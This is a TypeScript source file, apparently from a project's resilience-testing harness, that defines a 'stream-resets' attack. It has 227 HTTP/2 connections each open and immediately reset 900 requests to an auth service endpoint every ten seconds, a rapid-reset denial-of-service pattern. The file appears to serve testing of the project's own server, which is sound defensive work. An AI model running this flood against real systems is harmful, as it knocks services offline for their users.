import { AuthService } from "#gen/lucky/auth/v1/auth_pb.js";
import { HTTP2_START } from "../../../test/http2/frames.ts";
import type { Attack } from "../target/attack.ts";
import { inParallel, keepDoing, pause } from "../target/loops.ts";
import { closedByServer, resetRequests } from "../target/raw-http2.ts";

const CONNECTIONS = 227;
const STREAMS = 900;
/** Interval at which all connections are replaced, ms. Each time 5.5 MB are sent. */
const INTERVAL_MS = 10_000;

export const streamResets: Attack = {
  name: "stream-resets",
  summary: `${CONNECTIONS} HTTP/2 connections open ${STREAMS} requests each and reset them at once, every ten seconds`,
  prepare: (target) => {
    const requests = resetRequests(`/${AuthService.typeName}/GetPublicKey`, STREAMS);
    const bytes = Buffer.concat([HTTP2_START, requests]);
    return (signal) =>
      inParallel(CONNECTIONS, () =>
        keepDoing(target, signal, async () => {
          const socket = target.connect();
          target.tally.add("streams", STREAMS);
          socket.write(bytes);
          const replaced = pause(INTERVAL_MS, signal);
          const closed = closedByServer(socket).then(() => true);
          if (await Promise.race([closed, replaced])) target.tally.answered("closed");
          await replaced;
          socket.destroy();
        }),
      );
  },
};
